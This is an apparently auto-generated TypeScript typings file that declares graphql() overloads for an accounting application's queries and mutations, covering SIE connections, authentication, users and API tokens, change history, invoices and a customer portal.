export function graphql(source: "\n  mutation SieCreateConnection($settings: JSON) {\n    createConnection(input: { connectorId: \"sie\", name: \"SIE-fil\", settings: $settings }) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id hasCredentials connector { credentialKind } } }\n      ... on Error { message }\n    }\n  }\n"): (typeof documents)["\n  mutation SieCreateConnection($settings: JSON) {\n    createConnection(input: { connectorId: \"sie\", name: \"SIE-fil\", settings: $settings }) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id hasCredentials connector { credentialKind } } }\n      ... on Error { message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SieUpdateConnection($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation SieUpdateConnection($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SieRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation SieRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SieReexport($id: ID!, $invoiceIds: [ID!]!) {\n    reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) {\n      __typename\n      ... on MutationReexportInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on Error { message }\n    }\n  }\n"): (typeof documents)["\n  mutation SieReexport($id: ID!, $invoiceIds: [ID!]!) {\n    reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) {\n      __typename\n      ... on MutationReexportInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on Error { message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SieCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n"): (typeof documents)["\n  mutation SieCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query SieFiles($id: ID!) {\n    connectionFiles(connectionId: $id, first: 20) {\n      edges { node { id name contentType size sha256 flowId url createdAt run { id } } }\n    }\n  }\n"): (typeof documents)["\n  query SieFiles($id: ID!) {\n    connectionFiles(connectionId: $id, first: 20) {\n      edges { node { id name contentType size sha256 flowId url createdAt run { id } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query SieRunFiles($id: ID!) { node(id: $id) { ... on ConnectorRun { files { id name size url } } } }\n"): (typeof documents)["\n  query SieRunFiles($id: ID!) { node(id: $id) { ... on ConnectorRun { files { id name size url } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SieReexportSupplier($id: ID!, $supplierInvoiceIds: [ID!]!) {\n    reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) {\n      __typename\n      ... on MutationReexportSupplierInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message path }\n    }\n  }\n"): (typeof documents)["\n  mutation SieReexportSupplier($id: ID!, $supplierInvoiceIds: [ID!]!) {\n    reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) {\n      __typename\n      ... on MutationReexportSupplierInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation Login($input: LoginInput!) {\n    login(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on TooManyAttemptsError { retryAfterSeconds retryAt }\n      ... on MutationLoginSuccess {\n        data {\n          __typename\n          ... on LoginSession { sessionId accessToken accessTokenExpiresAt refreshToken refreshTokenExpiresAt }\n          ... on SecondFactorChallenge { challenge expiresAt }\n          ... on CompanyChoice { companies { id name } }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  mutation Login($input: LoginInput!) {\n    login(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on TooManyAttemptsError { retryAfterSeconds retryAt }\n      ... on MutationLoginSuccess {\n        data {\n          __typename\n          ... on LoginSession { sessionId accessToken accessTokenExpiresAt refreshToken refreshTokenExpiresAt }\n          ... on SecondFactorChallenge { challenge expiresAt }\n          ... on CompanyChoice { companies { id name } }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RefreshSession($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationRefreshSessionSuccess { data { sessionId accessToken refreshToken } }\n    }\n  }\n"): (typeof documents)["\n  mutation RefreshSession($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationRefreshSessionSuccess { data { sessionId accessToken refreshToken } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query LoginMe { me { id email totpEnabled hasPassword } }"): (typeof documents)["query LoginMe { me { id email totpEnabled hasPassword } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query AuthMe {\n    me {\n      id\n      name\n      email\n      signature\n      active\n      permissions\n    }\n  }\n"): (typeof documents)["\n  query AuthMe {\n    me {\n      id\n      name\n      email\n      signature\n      active\n      permissions\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query AuthMeGroups {\n    me { id groups { id name } }\n  }\n"): (typeof documents)["\n  query AuthMeGroups {\n    me { id groups { id name } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query AuthPermissions {\n    permissions { permission description }\n  }\n"): (typeof documents)["\n  query AuthPermissions {\n    permissions { permission description }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query AuthUsers($includeInactive: Boolean, $first: Int) {\n    users(includeInactive: $includeInactive, first: $first) {\n      edges { node { id name email signature active } }\n      pageInfo { hasNextPage }\n    }\n  }\n"): (typeof documents)["\n  query AuthUsers($includeInactive: Boolean, $first: Int) {\n    users(includeInactive: $includeInactive, first: $first) {\n      edges { node { id name email signature active } }\n      pageInfo { hasNextPage }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query AuthGroups {\n    groups { id name permissions members { id } }\n  }\n"): (typeof documents)["\n  query AuthGroups {\n    groups { id name permissions members { id } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query AuthApiTokens($includeRevoked: Boolean) {\n    apiTokens(includeRevoked: $includeRevoked) {\n      id\n      name\n      tokenPrefix\n      lastUsedAt\n      expiresAt\n      revokedAt\n      revokedBy\n      active\n      createdBy\n      user { id }\n    }\n  }\n"): (typeof documents)["\n  query AuthApiTokens($includeRevoked: Boolean) {\n    apiTokens(includeRevoked: $includeRevoked) {\n      id\n      name\n      tokenPrefix\n      lastUsedAt\n      expiresAt\n      revokedAt\n      revokedBy\n      active\n      createdBy\n      user { id }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AuthCreateApiToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) {\n      __typename\n      ... on MutationCreateApiTokenSuccess {\n        data {\n          token\n          apiToken { id name tokenPrefix expiresAt lastUsedAt revokedAt active user { id } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation AuthCreateApiToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) {\n      __typename\n      ... on MutationCreateApiTokenSuccess {\n        data {\n          token\n          apiToken { id name tokenPrefix expiresAt lastUsedAt revokedAt active user { id } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AuthRevokeApiToken($id: ID!) {\n    revokeApiToken(id: $id) {\n      __typename\n      ... on MutationRevokeApiTokenSuccess {\n        data { id name revokedAt revokedBy active }\n      }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation AuthRevokeApiToken($id: ID!) {\n    revokeApiToken(id: $id) {\n      __typename\n      ... on MutationRevokeApiTokenSuccess {\n        data { id name revokedAt revokedBy active }\n      }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AuthCreateUser($input: CreateUserInput!) {\n    createUser(input: $input) {\n      __typename\n      ... on MutationCreateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation AuthCreateUser($input: CreateUserInput!) {\n    createUser(input: $input) {\n      __typename\n      ... on MutationCreateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AuthUpdateUser($input: UpdateUserInput!) {\n    updateUser(input: $input) {\n      __typename\n      ... on MutationUpdateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation AuthUpdateUser($input: UpdateUserInput!) {\n    updateUser(input: $input) {\n      __typename\n      ... on MutationUpdateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AuthCreateGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) {\n      __typename\n      ... on MutationCreateGroupSuccess {\n        data { id name permissions createdBy }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation AuthCreateGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) {\n      __typename\n      ... on MutationCreateGroupSuccess {\n        data { id name permissions createdBy }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AuthUpdateGroup($input: UpdateGroupInput!) {\n    updateGroup(input: $input) {\n      __typename\n      ... on MutationUpdateGroupSuccess {\n        data { id name permissions members { id } }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation AuthUpdateGroup($input: UpdateGroupInput!) {\n    updateGroup(input: $input) {\n      __typename\n      ... on MutationUpdateGroupSuccess {\n        data { id name permissions members { id } }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation AuthDeleteGroup($id: ID!) {\n    deleteGroup(id: $id) {\n      __typename\n      ... on MutationDeleteGroupSuccess { data }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation AuthDeleteGroup($id: ID!) {\n    deleteGroup(id: $id) {\n      __typename\n      ... on MutationDeleteGroupSuccess { data }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query HistCustomer($id: ID!) {\n    node(id: $id) {\n      ... on Customer {\n        history(first: 10) { edges { node { at by changes { field from to hidden } } } }\n        contacts(first: 5) { edges { node { id history(first: 5) { edges { node { by changes { field from to hidden } } } } } } }\n      }\n    }\n  }\n"): (typeof documents)["\n  query HistCustomer($id: ID!) {\n    node(id: $id) {\n      ... on Customer {\n        history(first: 10) { edges { node { at by changes { field from to hidden } } } }\n        contacts(first: 5) { edges { node { id history(first: 5) { edges { node { by changes { field from to hidden } } } } } } }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation HistUpdate($input: UpdateCustomerInput!) { updateCustomer(input: $input) { __typename ... on Error { message } } }\n"): (typeof documents)["\n  mutation HistUpdate($input: UpdateCustomerInput!) { updateCustomer(input: $input) { __typename ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query HistProject($id: ID!) { node(id: $id) { ... on Project { history(first: 5) { edges { node { by changes { field from to } } } } } } }\n"): (typeof documents)["\n  query HistProject($id: ID!) { node(id: $id) { ... on Project { history(first: 5) { edges { node { by changes { field from to } } } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation HistProjectUpdate($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n"): (typeof documents)["\n  mutation HistProjectUpdate($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query HistInvoice($id: ID!) { node(id: $id) { ... on Invoice { history(first: 10) { edges { node { by changes { field from to } } } } } } }\n"): (typeof documents)["\n  query HistInvoice($id: ID!) { node(id: $id) { ... on Invoice { history(first: 10) { edges { node { by changes { field from to } } } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation HistImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) { __typename ... on MutationImportCustomersSuccess { data { committed updated } } ... on Error { message } }\n  }\n"): (typeof documents)["\n  mutation HistImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) { __typename ... on MutationImportCustomersSuccess { data { committed updated } } ... on Error { message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation HealthCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id pauseAfterFailures health { consecutiveFailures paused lastRunStatus } } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation HealthCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id pauseAfterFailures health { consecutiveFailures paused lastRunStatus } } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation HealthUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id pauseAfterFailures } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation HealthUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id pauseAfterFailures } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query HealthOfConnection($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        health { lastRunStatus lastRunAt consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt }\n      }\n    }\n  }\n"): (typeof documents)["\n  query HealthOfConnection($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        health { lastRunStatus lastRunAt consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation HealthRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status dryRun notification } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation HealthRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status dryRun notification } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation HealthResume($id: ID!) {\n    resumeConnection(id: $id) {\n      __typename\n      ... on MutationResumeConnectionSuccess { data { id health { consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt } } }\n      ... on Error { message code }\n    }\n  }\n"): (typeof documents)["\n  mutation HealthResume($id: ID!) {\n    resumeConnection(id: $id) {\n      __typename\n      ... on MutationResumeConnectionSuccess { data { id health { consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt } } }\n      ... on Error { message code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation NumCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation NumCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation NumDelete($id: ID!) { deleteCustomer(id: $id) { __typename } }"): (typeof documents)["mutation NumDelete($id: ID!) { deleteCustomer(id: $id) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation NumSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename } }\n"): (typeof documents)["\n  mutation NumSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation NumImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed created rows { customerNumber outcome } } }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation NumImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed created rows { customerNumber outcome } } }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { message } } }\n"): (typeof documents)["\n  mutation CsCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsProject($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess { data { id } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"): (typeof documents)["\n  mutation CsProject($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess { data { id } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsUpdateProject($input: UpdateProjectInput!) {\n    updateProject(input: $input) { __typename ... on ValidationError { issues { path code message } } }\n  }\n"): (typeof documents)["\n  mutation CsUpdateProject($input: UpdateProjectInput!) {\n    updateProject(input: $input) { __typename ... on ValidationError { issues { path code message } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess { data { id revenueLines { id } accountingBasis { id } } }\n      ... on Error { message }\n    }\n  }\n"): (typeof documents)["\n  mutation CsInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess { data { id revenueLines { id } accountingBasis { id } } }\n      ... on Error { message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n"): (typeof documents)["\n  mutation CsLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsRevenue($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n"): (typeof documents)["\n  mutation CsRevenue($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation CsRules($rules: [PostingRuleInput!]!) { setRevenuePostingRules(rules: $rules) { __typename } }"): (typeof documents)["mutation CsRules($rules: [PostingRuleInput!]!) { setRevenuePostingRules(rules: $rules) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation CsAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"): (typeof documents)["mutation CsAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsRevenueLine($id: ID!, $input: RevenueLineInput!) { updateInvoiceRevenueLine(id: $id, input: $input) { __typename } }\n"): (typeof documents)["\n  mutation CsRevenueLine($id: ID!, $input: RevenueLineInput!) { updateInvoiceRevenueLine(id: $id, input: $input) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CsBasisRow($id: ID!, $input: AccountingBasisRowInput!) { updateAccountingBasisRow(id: $id, input: $input) { __typename ... on Error { message } } }\n"): (typeof documents)["\n  mutation CsBasisRow($id: ID!, $input: AccountingBasisRowInput!) { updateAccountingBasisRow(id: $id, input: $input) { __typename ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuInvite($customerId: ID!, $email: String!, $rights: [CustomerUserRight!]!) {\n    inviteCustomerUser(customerId: $customerId, email: $email, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteCustomerUserSuccess { data { email rights expiresAt customer { id } } }\n    }\n  }\n"): (typeof documents)["\n  mutation CuInvite($customerId: ID!, $email: String!, $rights: [CustomerUserRight!]!) {\n    inviteCustomerUser(customerId: $customerId, email: $email, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteCustomerUserSuccess { data { email rights expiresAt customer { id } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuAccept($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n"): (typeof documents)["\n  mutation CuAccept($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuLogin($input: LoginInput!) {\n    login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename ... on LoginSession { accessToken refreshToken } } } }\n  }\n"): (typeof documents)["\n  mutation CuLogin($input: LoginInput!) {\n    login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename ... on LoginSession { accessToken refreshToken } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuRefresh($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) { __typename ... on Error { code } ... on MutationRefreshSessionSuccess { data { accessToken } } }\n  }\n"): (typeof documents)["\n  mutation CuRefresh($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) { __typename ... on Error { code } ... on MutationRefreshSessionSuccess { data { accessToken } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuSetRights($userId: ID!, $rights: [CustomerUserRight!]!) {\n    setCustomerUserRights(userId: $userId, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationSetCustomerUserRightsSuccess { data { id customerRights } }\n    }\n  }\n"): (typeof documents)["\n  mutation CuSetRights($userId: ID!, $rights: [CustomerUserRight!]!) {\n    setCustomerUserRights(userId: $userId, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationSetCustomerUserRightsSuccess { data { id customerRights } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuDelete($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code path } ... on MutationDeleteCustomerUserSuccess { data } } }\n"): (typeof documents)["\n  mutation CuDelete($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code path } ... on MutationDeleteCustomerUserSuccess { data } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CuPortal {\n    customerPortal { number name rights invoiceCity }\n  }\n"): (typeof documents)["\n  query CuPortal {\n    customerPortal { number name rights invoiceCity }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CuPortalInvoices {\n    customerPortal {\n      invoices(first: 10) { totalCount edges { node { number total amountToPay dueDate ocrReference paidDate pdfUrl projectNumber } } }\n    }\n  }\n"): (typeof documents)["\n  query CuPortalInvoices {\n    customerPortal {\n      invoices(first: 10) { totalCount edges { node { number total amountToPay dueDate ocrReference paidDate pdfUrl projectNumber } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CuPortalProjects { customerPortal { projects(first: 10) { totalCount edges { node { number name statusCode statusName } } } } }\n"): (typeof documents)["\n  query CuPortalProjects { customerPortal { projects(first: 10) { totalCount edges { node { number name statusCode statusName } } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
